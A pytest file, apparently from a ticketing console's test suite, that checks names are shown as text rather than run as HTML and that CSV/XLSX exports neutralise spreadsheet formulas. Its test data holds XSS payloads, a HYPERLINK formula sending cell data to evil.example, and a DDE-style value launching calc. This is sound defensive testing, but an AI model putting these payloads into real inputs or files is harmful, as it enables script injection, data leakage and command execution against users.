"""What an operator types is shown as text, never run as HTML or script (a real Chromium):
a product name, a ticket-type name, a coupon name, a kiosk name, a staff name and a member's
points reason carrying `<img src=x onerror=alert(..)>` and `"><script>alert(..)</script>`,
made through the console's own forms, are shown literally on every page that shows them, in
zh and en: no alert opens, no element of theirs is in the page. A kiosk's catalog answer
(JSON) keeps the product and ticket-type names as the plain strings typed.

Exports: a group's ticket list (CSV and XLSX) with holder names starting with `=`, `+`, `-`,
`@` (formula injection: `=HYPERLINK(...)` would be a live link in Excel) holds them as inert
text: the CSV cell starts with `'`, the XLSX cell is a string, never a formula."""

from __future__ import annotations

import csv
import io
import re

import httpx
import openpyxl
import pytest
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.by import By

from backend_stub.console import i18n
from tests.backend.helpers import later_day, slot
from tests.console.catalog_helpers import field_errors, fill, provision_http, submit
from tests.console.layout_checks import layout_problems
from tests.fixtures.console import LAPTOP, TABLET, http_login, login, open_page, shot

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = '"><script>alert(2)</script>'
NAMES = {
    "product_zh": f"湖区{IMG}",
    "product_en": f"Lake {SCRIPT}",
    "type_zh": f"成人{SCRIPT}",
    "type_en": f"Adult {IMG}",
    "coupon_zh": f"立减{IMG}",
    "coupon_en": f"Off {SCRIPT}",
    "kiosk": f"Gate {IMG}",
    "staff": f"孙{SCRIPT}",
    "reason": f"goodwill {IMG}",
    "token": f"sync {SCRIPT}",
}
PRODUCT, TYPE, KIOSK, STAFF, COUPON, MEMBER = (
    "XSSLAKE", "XSSLAKE-ADULT", "kiosk-xss", "S777", "XSS10", "M1001",
)  # fmt: skip
# page -> the names it must show as text (both languages unless the name is one language's)
PAGES = {
    "/console/catalog": ("product", "type"),
    f"/console/catalog/{PRODUCT}": ("product", "type"),
    f"/console/catalog/{PRODUCT}/types/{TYPE}": ("type",),
    f"/console/calendar?product={PRODUCT}": ("product",),
    "/console/prices": ("product", "type"),
    "/console/coupons": ("coupon", "product"),
    "/console/kiosks": ("kiosk",),
    "/console/fleet": ("kiosk",),
    f"/console/fleet/{KIOSK}": ("kiosk",),
    "/console/staff": ("staff",),
    f"/console/members/{MEMBER}": ("reason",),
    "/console/tokens": ("token",),
    "/console/": (),  # the audit trail: before -> after of each change
}
# an i18n key shown as itself (i18n.text's fallback), e.g. "catalog.kind.seated"
KEY_AREAS = "|".join(sorted({key.split(".")[0] for key in i18n.catalogue()} - {"ok"}))
UNTRANSLATED = re.compile(rf"\b(?:{KEY_AREAS})\.[a-z_]+(?:\.[a-z_]+)*\b")
WORDS = """const copy = document.body.cloneNode(true);
copy.querySelectorAll("code").forEach(c => c.remove());
return copy.textContent;"""
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)"]


def _expected(name: str, lang: str) -> list[str]:
    if name in ("product", "type", "coupon"):
        return [NAMES[f"{name}_{lang}"]]
    return [NAMES[name]]


def _assert_inert(driver, where: str) -> None:
    try:
        text = driver.switch_to.alert.text
    except NoAlertPresentException:
        text = None
    assert text is None, f"{where}: an alert opened ({text!r})"
    injected = driver.execute_script(
        "return [document.querySelectorAll('img[src=\"x\"]').length,"
        " [...document.scripts].filter(s => s.text.includes('alert(')).length]"
    )
    assert injected == [0, 0], f"{where}: injected elements (img, script): {injected}"


def test_names_typed_with_html_are_shown_as_text_everywhere(driver, console_backend):
    token = provision_http(console_backend.url, "kiosk-xss-reader")
    login(driver, "ops")
    # a product and a ticket type, through their forms
    open_page(driver, "/console/catalog/new", "en")
    fill(driver, {"id": PRODUCT, "name_zh": NAMES["product_zh"], "name_en": NAMES["product_en"],
                  "desc_zh": IMG, "desc_en": SCRIPT}, "product-form")  # fmt: skip
    submit(driver, "product-form")
    assert not field_errors(driver), field_errors(driver)
    fill(driver, {"code": "adult", "price": "30", "name_zh": NAMES["type_zh"],
                  "name_en": NAMES["type_en"]}, "type-form")  # fmt: skip
    submit(driver, "type-form")
    assert not field_errors(driver), field_errors(driver)
    # its slots, from a template
    open_page(driver, f"/console/calendar?product={PRODUCT}", "en")
    fill(driver, {"times": "09:00-10:00", "capacity": "10"}, "template-form")
    submit(driver, "template-form")
    assert not field_errors(driver), field_errors(driver)
    # a coupon on that product, a staff member, a member's points reason, an API token
    open_page(driver, "/console/coupons", "en")
    fill(driver, {"code": COUPON, "value": "10", "name_zh": NAMES["coupon_zh"],
                  "name_en": NAMES["coupon_en"]}, "coupon-form")  # fmt: skip
    driver.find_element(By.CSS_SELECTOR, f"#f-product_ids input[value='{PRODUCT}']").click()
    submit(driver, "coupon-form")
    assert not field_errors(driver), field_errors(driver)
    open_page(driver, "/console/staff", "en")
    fill(driver, {"id": STAFF, "name": NAMES["staff"], "pin": "482951"}, "staff-form")
    submit(driver, "staff-form")
    assert not field_errors(driver), field_errors(driver)
    open_page(driver, f"/console/members/{MEMBER}", "en")
    fill(driver, {"delta": "5", "reason": NAMES["reason"]}, "points-form")
    submit(driver, "points-form")
    assert not field_errors(driver), field_errors(driver)
    open_page(driver, "/console/tokens", "en")
    form = driver.find_element(By.ID, "create-token")
    form.find_element(By.ID, "f-name").send_keys(NAMES["token"])
    submit(driver, "create-token")
    assert not field_errors(driver), field_errors(driver)
    # a kiosk sells one (its order's page shows the product and ticket type)
    pages = PAGES | {
        f"/console/orders/{_kiosk_order(console_backend.url, token)}": ("product", "type")
    }
    # a kiosk named by the admin
    login(driver, "admin")
    open_page(driver, "/console/kiosks", "en")
    form = driver.find_element(By.ID, "provision-kiosk")
    form.find_element(By.ID, "f-kiosk_id").send_keys(KIOSK)
    form.find_element(By.ID, "f-name").send_keys(NAMES["kiosk"])
    submit(driver, "provision-kiosk")
    _assert_inert(driver, "the provisioned kiosk")
    # every page that shows them, in both languages: text, never markup
    # (at tablet width, the narrowest the console is made for: each page also reads well)
    driver.set_window_size(*TABLET)
    for path, shown in pages.items():
        for lang in ("zh", "en"):
            open_page(driver, path, lang)
            _assert_inert(driver, f"{path} ({lang})")
            assert not layout_problems(driver), (path, lang, layout_problems(driver))
            body = driver.find_element(By.TAG_NAME, "body").text
            words = driver.execute_script(WORDS)  # (ids and audit actions in <code> left out)
            assert not UNTRANSLATED.findall(words), f"{path} ({lang}): i18n keys shown as text"
            for name in shown:
                for literal in _expected(name, lang):
                    assert literal in body, f"{path} ({lang}) does not show {literal!r}"
    driver.set_window_size(*LAPTOP)
    open_page(driver, "/console/catalog", "zh")
    shot(driver, "names-as-text")
    # the kiosk's catalog: the names as the plain strings typed (JSON, not HTML-escaped)
    answer = httpx.get(console_backend.url + "/api/v1/catalog",
                       headers={"Authorization": f"Bearer {token}"})  # fmt: skip
    assert answer.headers["content-type"].startswith("application/json")
    product = next(p for p in answer.json()["products"] if p["id"] == PRODUCT)
    assert product["name"] == {"zh": NAMES["product_zh"], "en": NAMES["product_en"]}
    [ticket_type] = product["ticket_types"]
    assert ticket_type["name"] == {"zh": NAMES["type_zh"], "en": NAMES["type_en"]}
    assert "&lt;" not in answer.text and "&#" not in answer.text


def _kiosk_order(url: str, token: str) -> str:
    """A kiosk's held order of one ticket of PRODUCT tomorrow (over the kiosk API)."""
    kiosk = httpx.Client(base_url=url + "/api/v1", headers={"Authorization": f"Bearer {token}"})
    day = later_day(1)
    [first, *_] = kiosk.get("/slots", params={"product_id": PRODUCT, "date": str(day)}).json()
    line = {"product_id": PRODUCT, "slot_id": first["id"], "ticket_type_id": TYPE, "quantity": 1}
    answer = kiosk.post("/orders", json={"lines": [line], "coupon_code": COUPON},
                        headers={"Idempotency-Key": "xss-order-1"})  # fmt: skip
    assert answer.status_code == 201, answer.text
    return answer.json()["id"]


@pytest.fixture(scope="module")
def formula_group(console_backend) -> str:
    """A group booked through the ops API whose holders are named like formulas."""
    from tests.console.test_groups import resident_id

    day = later_day(3)
    roster = [{"name": name, "doc_type": "id_card", "doc_number": resident_id(500 + i)}
              for i, name in enumerate(FORMULAS)]  # fmt: skip
    body = {"group_ref": "=春游|' /C calc'!A0", "product_id": "ADM",
            "slot_id": slot("ADM", day, 10),
            "ticket_type_id": "ADM-ADULT", "roster": roster,
            "guide": {"name": "导游", "phone": "13800138000", "doc_type": "id_card",
                      "doc_number": resident_id(600)}}  # fmt: skip
    answer = httpx.post(console_backend.url + "/api/v1/ops/groups", json=body,
                        headers={"Authorization": "Bearer demo-ops-token",
                                 "Idempotency-Key": "xss-formula-group"})  # fmt: skip
    assert answer.status_code == 201, answer.text
    return answer.json()["order"]["id"] if "order" in answer.json() else answer.json()["id"]


def test_exports_hold_formulas_as_inert_text(console_backend, formula_group):
    ops = http_login(console_backend.url, "ops")
    answer = ops.get(f"/console/groups/{formula_group}/tickets.csv")
    assert answer.status_code == 200
    # the file's name comes from the group's reference (Chinese: once a 500, the header is
    # latin-1): kept whole as RFC 6266 filename*
    assert "filename*=UTF-8''group-%3D%E6%98%A5%E6%B8%B8" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    # the names (masked: their first character and stars) each behind a '
    assert sorted(row[2][:2] for row in rows[1:]) == sorted("'" + f[0] for f in FORMULAS)
    answer = ops.get(f"/console/groups/{formula_group}/tickets.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]  # no formula at all
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    # the group's reference line and the four names: text with Excel's quote prefix
    assert len(risky) == 1 + len(FORMULAS), [c.value for c in cells]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert sheet["A1"].value.startswith("=春游|")
